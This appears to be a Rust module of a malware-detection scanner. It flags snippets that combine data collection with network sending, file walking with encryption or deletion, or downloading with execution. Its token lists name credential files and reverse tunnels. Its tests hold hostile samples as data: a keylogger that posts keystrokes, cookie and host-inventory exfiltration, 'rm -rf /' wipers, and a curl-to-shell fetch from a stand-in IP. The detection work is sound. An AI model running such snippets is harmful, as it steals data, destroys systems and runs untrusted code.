//! Code capabilities: what a snippet *does*, read from the APIs and commands it uses rather than
//! from one command line. A snippet that collects something private (keystrokes, the screen,
//! the clipboard, host fingerprints, key files) and also sends over the network exfiltrates; one
//! that walks the file system and encrypts or deletes what it finds is ransomware or a wiper;
//! one that downloads code and executes it is a dropper. Each capability alone is ordinary
//! (backups walk directories, health checks loop over curl): only combinations within one
//! stretch of code fire.
//!
//! A few hundred API tokens, searched (overlapping, in Aho-Corasick order) in the same pass over
//! the skeleton as the rules' literals, then a two-pointer sweep over the hits: linear in the
//! text.

use crate::bytes::line_start;
#[cfg(test)]
use crate::literals::Literals;
use crate::normalize::Normalized;
use std::ops::Range;
#[cfg(test)]
use std::sync::OnceLock;

/// Bytes within which capabilities combine (about one snippet).
const WINDOW: usize = 700;

const COLLECT: u32 = 1; // keystrokes, screen, clipboard, host inventory, users, cookies, key files
const NET: u32 = 1 << 1; // sends over the network (HTTP, raw sockets, mail, message brokers)
const WALK: u32 = 1 << 2; // walks the file system
const ENCRYPT: u32 = 1 << 3; // encrypts data
const DELETE: u32 = 1 << 4; // deletes or overwrites
const ROOT: u32 = 1 << 5; // the root or a system path
const NETCFG: u32 = 1 << 6; // changes network or firewall configuration
const DOWN: u32 = 1 << 7; // takes something down or blocks it
const LOOP: u32 = 1 << 8; // an unbounded loop or a fork
const FETCH: u32 = 1 << 9; // downloads
const EXEC: u32 = 1 << 10; // executes code or a shell
const AUTHKEYS: u32 = 1 << 11; // ssh authorized keys
const APPEND: u32 = 1 << 12; // appends or writes
const TUNNEL: u32 = 1 << 13; // opens a tunnel or port forward to a remote host

/// The system directories among the [`ROOT`] tokens: they count only within [`ROOT_LINES`]
/// lines of a delete.
const PATH_ROOTS: &[&str] = &[
    "c:\\",
    "system32",
    "/boot",
    "/etc/",
    "/usr/",
    "/dev/sd",
    "/dev/nvme",
];
/// Lines between a system directory and a delete for the one to be the other's target.
const ROOT_LINES: usize = 3;

const TOKENS: &[(&str, u32)] = &[
    ("pynput", COLLECT),
    ("on_press", COLLECT),
    ("keyboard.hook", COLLECT),
    ("getasynckeystate", COLLECT),
    ("setwindowshookex", COLLECT),
    ("keylog", COLLECT),
    ("imagegrab", COLLECT),
    ("screenshot(", COLLECT),
    ("pyautogui", COLLECT),
    ("mss.mss", COLLECT),
    ("screencapture", COLLECT),
    ("pyperclip", COLLECT),
    ("getclipboard", COLLECT),
    ("platform.uname", COLLECT),
    ("platform.node", COLLECT),
    ("platform.platform", COLLECT),
    ("socket.gethostname", COLLECT),
    ("getpass.getuser", COLLECT),
    ("uuid.getnode", COLLECT),
    ("psutil.", COLLECT),
    ("driverquery", COLLECT),
    ("systeminfo", COLLECT),
    ("wmic ", COLLECT),
    ("os.uname", COLLECT),
    ("os.getlogin", COLLECT),
    ("pwd.getpw", COLLECT),
    ("cookiejar", COLLECT),
    ("browser_cookie3", COLLECT),
    ("cookies.sqlite", COLLECT),
    ("bash_history", COLLECT),
    ("getmac", COLLECT),
    ("netifaces", COLLECT),
    ("win32clipboard", COLLECT),
    ("dmidecode", COLLECT),
    ("os.environ", COLLECT),
    ("process.env", COLLECT),
    ("/etc/passwd", COLLECT),
    ("/etc/shadow", COLLECT),
    ("id_rsa", COLLECT),
    (".aws/credentials", COLLECT),
    ("login data", COLLECT),
    ("wallet.dat", COLLECT),
    ("scapy", COLLECT),
    ("sniff(", COLLECT),
    ("pcap", COLLECT),
    ("net_connections", COLLECT),
    ("requests.post", NET),
    ("requests.request(", NET),
    ("requests.patch", NET),
    ("paho.mqtt", NET),
    ("publish.single(", NET),
    ("axios.post", NET),
    ("socket.create_connection", NET),
    ("telnetlib", NET),
    ("requests.put", NET),
    ("urllib.request", NET),
    ("urlopen(", NET),
    ("http.client", NET),
    ("httpx.post", NET),
    ("smtplib", NET),
    ("sendmail(", NET),
    (".sendall(", NET),
    (".sendto(", NET),
    ("socket.socket", NET),
    ("ftplib", NET),
    ("paramiko", NET),
    ("sendbeacon", NET),
    ("xmlhttprequest", NET),
    ("invoke-restmethod", NET),
    ("curl -d", NET),
    ("curl -x post", NET),
    ("curl --data", NET),
    ("curl -f ", NET),
    ("--upload-file", NET),
    ("os.walk", WALK),
    ("glob.glob", WALK),
    (".rglob(", WALK),
    ("os.scandir", WALK),
    ("os.listdir", WALK),
    ("find / ", WALK),
    ("get-childitem -recurse", WALK),
    ("fernet", ENCRYPT),
    ("cipher(", ENCRYPT),
    ("aes.new", ENCRYPT),
    (".encrypt(", ENCRYPT),
    ("encryptor(", ENCRYPT),
    ("chacha20", ENCRYPT),
    ("ransom", ENCRYPT),
    ("os.remove", DELETE),
    ("os.unlink", DELETE),
    ("shutil.rmtree", DELETE),
    ("rm -rf", DELETE),
    ("rm -fr", DELETE),
    ("rm -r ", DELETE),
    ("del /f", DELETE),
    ("del /s", DELETE),
    ("rd /s", DELETE),
    ("rmdir /s", DELETE),
    ("remove-item", DELETE),
    ("mkfs", DELETE),
    ("dd if=", DELETE),
    ("shred ", DELETE),
    ("format c:", DELETE),
    ("wipefs", DELETE),
    ("(\"/\"", ROOT),
    ("('/'", ROOT),
    ("= \"/\"", ROOT),
    ("= '/'", ROOT),
    (" / ", ROOT),
    ("c:\\", ROOT),
    ("system32", ROOT),
    ("/boot", ROOT),
    ("/etc/", ROOT),
    ("/usr/", ROOT),
    ("/dev/sd", ROOT),
    ("/dev/nvme", ROOT),
    ("iptables", NETCFG),
    ("netsh", NETCFG),
    ("ifconfig", NETCFG),
    ("ip link set", NETCFG),
    ("route del", NETCFG),
    ("nmcli", NETCFG),
    ("/etc/hosts", NETCFG),
    ("-j drop", DOWN),
    ("-p drop", DOWN),
    (" down", DOWN),
    ("block", DOWN),
    ("disable", DOWN),
    ("127.0.0.1 ", DOWN),
    ("while true", LOOP),
    ("while 1", LOOP),
    ("while(true)", LOOP),
    ("for(;;)", LOOP),
    ("itertools.count", LOOP),
    ("os.fork", LOOP),
    ("fork()", LOOP),
    ("requests.get", FETCH),
    ("urlretrieve", FETCH),
    ("wget ", FETCH),
    ("curl ", FETCH),
    ("invoke-webrequest", FETCH),
    ("downloadstring", FETCH),
    ("exec(", EXEC),
    ("eval(", EXEC),
    ("os.system", EXEC),
    ("subprocess", EXEC),
    ("popen(", EXEC),
    ("| sh", EXEC),
    ("| bash", EXEC),
    ("|sh", EXEC),
    ("|bash", EXEC),
    ("iex", EXEC),
    ("invoke-expression", EXEC),
    ("chmod +x", EXEC),
    ("pexpect", EXEC),
    ("authorized_keys", AUTHKEYS),
    ("ssh -l 1", TUNNEL),
    ("ssh -l 2", TUNNEL),
    ("ssh -l 3", TUNNEL),
    ("ssh -l 4", TUNNEL),
    ("ssh -l 5", TUNNEL),
    ("ssh -l 6", TUNNEL),
    ("ssh -l 7", TUNNEL),
    ("ssh -l 8", TUNNEL),
    ("ssh -l 9", TUNNEL),
    ("ssh -r ", TUNNEL),
    ("ssh -nr", TUNNEL),
    ("ssh -fnr", TUNNEL),
    ("ngrok tcp", TUNNEL),
    ("ngrok http", TUNNEL),
    ("cloudflared tunnel", TUNNEL),
    ("chisel client", TUNNEL),
    (">>", APPEND),
    (", 'a')", APPEND),
    (", \"a\")", APPEND),
    (".write(", APPEND),
];

#[cfg(test)]
fn automaton() -> &'static Literals {
    static AC: OnceLock<Literals> = OnceLock::new();
    AC.get_or_init(|| Literals::new(&TOKENS.iter().map(|t| t.0).collect::<Vec<_>>()))
}

/// What a stretch of code does, as the engine reports it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Capability {
    /// Collects something private and sends it out.
    Exfiltrates,
    /// Encrypts or deletes across the file system or system paths; downloads and runs code.
    Destroys,
    /// Disrupts: blocks the network, floods, plants ssh keys (a signal, not a verdict).
    Disrupts,
}

/// Spans (original offsets) per capability.
#[derive(Debug, Default)]
pub struct CodeSpans {
    spans: [Vec<Range<usize>>; 3],
}

impl CodeSpans {
    /// The spans of one capability.
    pub fn get(&self, c: Capability) -> &[Range<usize>] {
        let i = match c {
            Capability::Exfiltrates => 0,
            Capability::Destroys => 1,
            Capability::Disrupts => 2,
        };
        self.spans.get(i).map_or(&[], Vec::as_slice)
    }
}

/// Whether the path going on at byte `at` of the skeleton ends in a file name with an
/// extension (`nginx/nginx.conf`, `artifacts.yml`), not a directory or a glob.
fn names_a_file(sk: &[u8], at: usize) -> bool {
    let path = sk.get(at..).unwrap_or_default();
    let len = path
        .iter()
        .position(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'/')))
        .unwrap_or(path.len());
    let last = path
        .get(..len)
        .and_then(|p| p.rsplit(|&c| c == b'/').next())
        .unwrap_or_default();
    last.iter()
        .rposition(|&c| c == b'.')
        .is_some_and(|dot| dot > 0 && last.get(dot + 1).is_some_and(u8::is_ascii_alphabetic))
}

/// Whether the line holding byte `at` of the skeleton starts with `#!`.
fn shebang_line(sk: &[u8], at: usize) -> bool {
    sk.get(line_start(sk, at)..)
        .is_some_and(|line| line.starts_with(b"#!"))
}

/// Whether the `/usr/` at `start..end` of the skeleton opens the path of a program a command
/// line runs: `bin/` or `sbin/` (under `local/` or not) follows, and it stands where a command
/// does: first on its line (after a prompt), or after `=`, `sudo`, `exec`, `env`, `nohup`, a
/// separator (`;`, `&&`, `|`) or an opening `(` or backtick.
fn program_path(sk: &[u8], start: usize, end: usize) -> bool {
    let rest = sk.get(end..).unwrap_or_default();
    let rest = rest.strip_prefix(b"local/").unwrap_or(rest);
    if !(rest.starts_with(b"bin/") || rest.starts_with(b"sbin/")) {
        return false;
    }
    let before = sk
        .get(line_start(sk, start)..start)
        .unwrap_or_default()
        .trim_ascii_end();
    before.is_empty()
        || [
            &b"="[..],
            b"sudo",
            b"exec",
            b"env",
            b"nohup",
            b";",
            b"&",
            b"|",
            b"(",
            b"`",
            b"$",
            b"#",
        ]
        .iter()
        .any(|end| before.ends_with(end))
}

fn judge(f: u32) -> [Option<Capability>; 3] {
    let any = |b: u32| f & b != 0;
    let exf = any(COLLECT) && any(NET);
    let destroys = (any(ENCRYPT) && any(WALK | APPEND) && !any(DOWN))
        || (any(DELETE) && any(ROOT))
        || (any(FETCH) && any(EXEC));
    let disrupts = (any(NETCFG) && any(DOWN))
        || (any(LOOP) && any(NET | FETCH | LOOP) && f.count_ones() >= 2)
        || (any(AUTHKEYS) && any(APPEND))
        || (any(TUNNEL) && any(EXEC | NET));
    [
        exf.then_some(Capability::Exfiltrates),
        destroys.then_some(Capability::Destroys),
        disrupts.then_some(Capability::Disrupts),
    ]
}

/// The API tokens, in order: a caller may search them together with its own literals and
/// hand the matches to [`capabilities_of`].
pub fn tokens() -> impl Iterator<Item = &'static str> {
    TOKENS.iter().map(|t| t.0)
}

/// [`capabilities_of`] with the tokens searched on their own (for tests).
#[cfg(test)]
pub fn capabilities(text: &str, n: &Normalized) -> CodeSpans {
    let mut matches = Vec::new();
    automaton().find_overlapping(n.text.as_bytes(), &mut matches);
    capabilities_of(text, n, matches.iter().map(|m| (m.pattern, m.start, m.end)))
}

/// Finds combinations of capabilities within [`WINDOW`] bytes of each other, from the token
/// matches in the skeleton, given as (token index, start, end) in the order an overlapping
/// Aho-Corasick search reports them.
pub fn capabilities_of(
    text: &str,
    n: &Normalized,
    matches: impl Iterator<Item = (usize, usize, usize)>,
) -> CodeSpans {
    let mut out = CodeSpans::default();
    let mut hits: Vec<(usize, usize, u32)> = Vec::new();
    let sk = n.text.as_bytes();
    let mut bare_roots: Vec<usize> = Vec::new();
    let mut path_roots: Vec<usize> = Vec::new();
    for (token, start, end) in matches {
        if let Some((name, bit)) = TOKENS.get(token) {
            // A download whose argument is an ellipsis (`curl ... | sh`) describes a shape of
            // command; it fetches nothing.
            if *bit == FETCH && sk.get(end..end + 3) == Some(b"...") {
                continue;
            }
            // A system path in a shebang (`#!/usr/bin/env bash`) names the interpreter, not
            // something the script touches: every script has one.
            if *bit == ROOT && shebang_line(sk, start) {
                continue;
            }
            // So does the path of the program a command line runs (`COMMAND=/usr/bin/rm` in a
            // sudo log, `sudo /usr/sbin/logrotate -f`): the program, not its target.
            if *name == "/usr/" && program_path(sk, start, end) {
                continue;
            }
            if hits.len() < 4096 {
                if *name == " / " {
                    bare_roots.push(hits.len());
                } else if PATH_ROOTS.contains(name) {
                    path_roots.push(hits.len());
                }
                hits.push((start, end, *bit));
            }
        }
    }
    // A bare ` / ` is the root only as the operand of a delete on its own line (`rm -rf / `);
    // elsewhere it is `du -xh / | sort` or prose, and says nothing about a delete further on.
    if !bare_roots.is_empty() {
        let line_of = |i: usize| line_start(sk, i);
        let delete_lines: Vec<usize> = hits
            .iter()
            .filter(|h| h.2 == DELETE)
            .map(|h| line_of(h.0))
            .collect();
        for &k in &bare_roots {
            if let Some(h) = hits.get_mut(k) {
                if !delete_lines.contains(&line_of(h.0)) {
                    h.2 = 0;
                }
            }
        }
        hits.retain(|h| h.2 != 0);
    }
    // A system directory (`/etc/`, `/usr/`) is a delete's target only near the delete: a
    // script that mentions `/usr/` in its notes and later removes its own build directory
    // wipes nothing of the system. Near is a few lines, enough for a loop over a walk
    // (`for f in glob("/usr/*"):` then `os.remove(f)` on the next lines).
    if !path_roots.is_empty() {
        let deletes: Vec<usize> = hits.iter().filter(|h| h.2 == DELETE).map(|h| h.0).collect();
        let lines_between = |a: usize, b: usize| {
            let (a, b) = (a.min(b), a.max(b).min(sk.len()));
            sk.get(a..b)
                .map_or(usize::MAX, |s| memchr::memchr_iter(b'\n', s).count())
        };
        for &k in &path_roots {
            if let Some(h) = hits.get_mut(k) {
                // A named file there (`/etc/app.yml`) is read or written, not wiped, unless
                // the delete is on its very line.
                let reach = if names_a_file(sk, h.1) { 0 } else { ROOT_LINES };
                if !deletes.iter().any(|&d| lines_between(h.0, d) <= reach) {
                    h.2 = 0;
                }
            }
        }
        hits.retain(|h| h.2 != 0);
    }
    if hits.len() < 2 {
        return out;
    }
    // For each hit as the window's start, the capabilities of the hits up to WINDOW after it.
    let mut j = 0;
    let mut f = 0u32;
    let mut counts = [0u16; 32];
    for i in 0..hits.len() {
        let (start, _, _) = hits[i];
        while j < hits.len() && hits[j].0 <= start + WINDOW {
            let b = hits[j].2.trailing_zeros() as usize;
            if let Some(c) = counts.get_mut(b) {
                *c += 1;
            }
            f |= hits[j].2;
            j += 1;
        }
        let end = hits.get(j.saturating_sub(1)).map_or(start, |h| h.1);
        for (slot, cap) in judge(f).iter().enumerate() {
            if cap.is_none() {
                continue;
            }
            if let Some(v) = out.spans.get_mut(slot) {
                let (a, b) = n.original_span(start, end, text.len());
                // Every span, not the first few: the engine decides which are excused, and
                // an excused snippet must not crowd out a real one after it.
                let overlaps = v.last().is_some_and(|r| a < r.end);
                if !overlaps {
                    v.push(a..b);
                }
            }
        }
        // Hit i leaves the window.
        let b = hits[i].2.trailing_zeros() as usize;
        if let Some(c) = counts.get_mut(b) {
            *c = c.saturating_sub(1);
            if *c == 0 {
                f &= !hits[i].2;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::normalize;

    fn caps(t: &str) -> CodeSpans {
        capabilities(t, &normalize(t))
    }

    #[test]
    fn combinations_fire() {
        let k = "from pynput import keyboard\nkeys = []\nrequests.post(URL, data=keys)";
        assert!(!caps(k).get(Capability::Exfiltrates).is_empty());
        let r =
            "for root, dirs, files in os.walk(home):\n    data = f.encrypt(open(p,'rb').read())";
        assert!(!caps(r).get(Capability::Destroys).is_empty());
    }

    #[test]
    fn host_inventory_sent_over_any_transport_exfiltrates() {
        // A system command's report, a user database, a browser's cookies: each is collected,
        // and a broker publish, a raw connection or a generic request sends it.
        for k in [
            "info = subprocess.check_output(\"systeminfo\").decode()\nrequests.request(\"POST\", URL, data=info)",
            "import paho.mqtt.publish as publish\nimport psutil\npublish.single('m', json.dumps(psutil.virtual_memory()._asdict()), hostname=H)",
            "users = pwd.getpwall()\ns = socket.create_connection((HOST, 9000))\ns.sendall(repr(users).encode())",
            "cj = browser_cookie3.chrome()\nt = telnetlib.Telnet(HOST)\nt.write(str(cj).encode())",
        ] {
            assert!(!caps(k).get(Capability::Exfiltrates).is_empty(), "{k}");
        }
        // Either half alone is ordinary: an inventory printed, a sensor reading published.
        for t in [
            "print(subprocess.check_output(\"systeminfo\").decode())",
            "publish.single('garden/temp', str(read_sensor()), hostname='broker.local')",
        ] {
            assert!(caps(t).get(Capability::Exfiltrates).is_empty(), "{t}");
        }
    }

    #[test]
    fn single_capabilities_do_not() {
        let t =
            "curl -fsS https://x/healthz\nrm -rf -- \"${BUILD_DIR:?}\"\nimport os\nos.walk(src)";
        let c = caps(t);
        assert!(c.get(Capability::Exfiltrates).is_empty());
        assert!(c.get(Capability::Destroys).is_empty());
    }

    #[test]
    fn a_bare_slash_is_the_root_only_next_to_a_delete() {
        let ops = "- Disk hogs: `du -xh / | sort -h`\n- Old builds: `find /srv/builds -mtime +14 -exec rm -rf {} +`";
        assert!(caps(ops).get(Capability::Destroys).is_empty());
        assert!(
            !caps("sudo rm -rf / --no-preserve-root")
                .get(Capability::Destroys)
                .is_empty()
        );
    }

    #[test]
    fn a_shebang_is_not_a_system_path_touched() {
        let cleanup = "#!/usr/bin/env bash\nset -eu\nfor d in \"${CACHE:?}\"/old-*; do\n  rm -rf -- \"$d\"\ndone";
        assert!(caps(cleanup).get(Capability::Destroys).is_empty());
        let wiper = "#!/usr/bin/env bash\nrm -rf /usr/share/*";
        assert!(!caps(wiper).get(Capability::Destroys).is_empty());
    }

    #[test]
    fn the_program_a_command_runs_is_not_its_target() {
        let log = "sudo: ann : USER=root ; COMMAND=/usr/bin/rm -rf /srv/releases/2025-10-02\nsudo: ann : USER=root ; COMMAND=/usr/bin/ls -la /srv/releases";
        assert!(caps(log).get(Capability::Destroys).is_empty());
        let run = "sudo /usr/bin/rm -rf /srv/cache/builds/old";
        assert!(caps(run).get(Capability::Destroys).is_empty());
        // A program's directory as the target of a delete is still one.
        let wiper = "rm -rf /usr/bin/";
        assert!(!caps(wiper).get(Capability::Destroys).is_empty());
        let wiper = "sudo /usr/bin/rm -rf /usr/lib/";
        assert!(!caps(wiper).get(Capability::Destroys).is_empty());
    }

    #[test]
    fn a_system_directory_is_a_target_only_near_a_delete() {
        let reads_config =
            "KEEP=$(yq '.keep' /etc/artifacts.yml)\nrm -rf /srv/artifacts/$KEEP/old/*";
        assert!(caps(reads_config).get(Capability::Destroys).is_empty());
        let far = "Logs go to /usr/local/var/log.\n\n\n\n\nrm -rf ./build";
        assert!(caps(far).get(Capability::Destroys).is_empty());
        let walk = "for root, dirs, files in os.walk('/usr/'):\n    for f in files:\n        os.remove(os.path.join(root, f))";
        assert!(!caps(walk).get(Capability::Destroys).is_empty());
        let same_line = "rm -rf /etc/nginx/nginx.conf";
        assert!(!caps(same_line).get(Capability::Destroys).is_empty());
        assert!(names_a_file(b"/etc/app.yml rest", 5));
        assert!(!names_a_file(b"/usr/share/* rest", 5));
        assert!(!names_a_file(b"/etc/ rest", 5));
    }

    #[test]
    fn an_elided_download_is_a_description() {
        let t = "Verify that `curl ... | sh` installers are not used in the golden image.";
        assert!(caps(t).get(Capability::Destroys).is_empty());
        let d = "curl -s http://198.51.100.9/a.sh | sh";
        assert!(!caps(d).get(Capability::Destroys).is_empty());
    }
}
